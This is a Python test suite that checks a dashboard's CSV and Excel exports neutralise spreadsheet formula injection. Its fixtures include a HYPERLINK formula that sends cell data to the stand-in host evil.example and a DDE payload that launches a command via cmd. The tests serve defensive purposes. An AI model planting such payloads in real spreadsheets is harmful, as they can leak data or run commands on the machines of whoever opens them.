"""Exports are safe to open: no text cell becomes a formula in Excel or LibreOffice."""

from __future__ import annotations

import base64
import csv
import io
import math

from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from coc.exports import csv_text, is_risky, neutralise, xlsx_bytes
from dashboards.app import export_payload

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
COLUMNS = [{"field": "name", "headerName": "Chỉ tiêu"}, {"field": "value", "headerName": "Giá trị"}]
ROWS = [
    {"name": HYPERLINK, "value": -2.5},
    {"name": "+cmd|' /C calc'!A0", "value": -12},
    {"name": "@SUM(1+1)*cmd", "value": 0},
    {"name": "-2+3+cmd", "value": None},
    {"name": "\t=1+1", "value": 7},
    {"name": "\r=1+1", "value": 8},
    {"name": "-2,5", "value": 9},
    {"name": "Tỷ lệ ký số", "value": 75.0},
]


def _sheet(payload: dict) -> list[list]:
    book = load_workbook(io.BytesIO(base64.b64decode(payload["content"])))
    return [list(row) for row in book.active.iter_rows()]


def test_xlsx_export_writes_formulas_as_text() -> None:
    cells = _sheet(export_payload("chi-tieu", "export-xlsx", ROWS, COLUMNS))
    assert [c.value for c in cells[0]] == ["Chỉ tiêu", "Giá trị"]
    link, number = cells[1]
    assert link.value == HYPERLINK and link.data_type == "s" and link.quotePrefix
    assert number.value == -2.5 and number.data_type == "n"
    for row in cells[1:]:
        assert row[0].data_type == "s", row[0].value
    assert [r[0].quotePrefix for r in cells[1:]] == [True] * 6 + [False, False]
    assert [r[1].value for r in cells[1:]] == [-2.5, -12, 0, None, 7, 8, 9, 75]


def test_csv_export_prefixes_risky_cells_and_keeps_negative_numbers() -> None:
    payload = export_payload("chi-tieu", "export-csv", ROWS, COLUMNS)
    assert payload["content"].startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(payload["content"][1:], newline="")))
    assert rows == [
        ["Chỉ tiêu", "Giá trị"],
        ["'" + HYPERLINK, "-2.5"],
        ["'+cmd|' /C calc'!A0", "-12.0"],
        ["'@SUM(1+1)*cmd", "0.0"],
        ["'-2+3+cmd", ""],  # pandas makes the column float: 0.0, 7.0
        ["'\t=1+1", "7.0"],
        ["'\r=1+1", "8.0"],
        ["-2,5", "9.0"],
        ["Tỷ lệ ký số", "75.0"],
    ]


def test_error_codes_and_bad_characters_stay_text() -> None:
    book = load_workbook(io.BytesIO(xlsx_bytes("a/b:c", ["x"], [["#N/A"], ["a\x01b"]])))
    sheet = book.active
    assert sheet.title == "a-b-c"
    assert [(c.value, c.data_type) for (c,) in sheet.iter_rows(min_row=2)] == [
        ("#N/A", "s"),
        ("a\ufffdb", "s"),
    ]


@given(st.text())
def test_neutraliser_never_leaves_a_formula(text: str) -> None:
    out = neutralise(text)
    if is_risky(text):
        assert out == "'" + text
    else:
        assert out == text
    assert not is_risky(out)
    assert not out.startswith(("=", "@", "\t", "\r")) or not is_risky(out)


@given(st.integers(-(10**12), 10**12) | st.floats(allow_nan=False, allow_infinity=False))
def test_real_numbers_stay_numbers(number: float) -> None:
    assert neutralise(number) == number
    assert not is_risky(str(number))


_CELL = st.one_of(
    st.none(),
    st.text(max_size=40),
    st.sampled_from(["=1+1", "+1", "-1", "@A1", "\t=x", "\r=x", "#REF!", "-2,5"]),
    st.integers(-(10**15), 10**15),
    st.floats(),
    st.booleans(),
)


@settings(max_examples=60, deadline=None)
@given(st.lists(st.lists(_CELL, min_size=2, max_size=2), max_size=6))
def test_any_table_exports_without_formulas(rows: list[list]) -> None:
    book = load_workbook(io.BytesIO(xlsx_bytes("t", ["a", "b"], rows)))
    for cells, row in zip(book.active.iter_rows(min_row=2), rows, strict=False):
        for cell, value in zip(cells, row, strict=True):
            assert cell.data_type != "f"
            if isinstance(value, str) and value:
                assert cell.data_type == "s"
                assert cell.quotePrefix == is_risky(value)
            elif value == "" or (isinstance(value, float) and math.isnan(value)):
                assert cell.value is None
    parsed = list(csv.reader(io.StringIO(csv_text(["a", "b"], rows, bom=False), newline="")))
    for line in parsed[1:]:
        for cell in line:
            assert not is_risky(cell)
